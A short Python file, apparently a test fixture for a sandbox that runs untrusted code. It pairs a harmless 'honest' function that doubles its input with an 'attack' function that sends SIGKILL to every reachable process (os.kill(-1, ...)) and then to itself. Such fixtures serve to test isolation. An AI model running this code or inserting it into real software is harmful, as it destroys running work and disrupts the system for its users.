"""Kills every process that it can reach, and then itself (D1)."""

import os
import signal


def honest(x):
    return 2 * x


def attack(x):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    os.kill(os.getpid(), signal.SIGKILL)
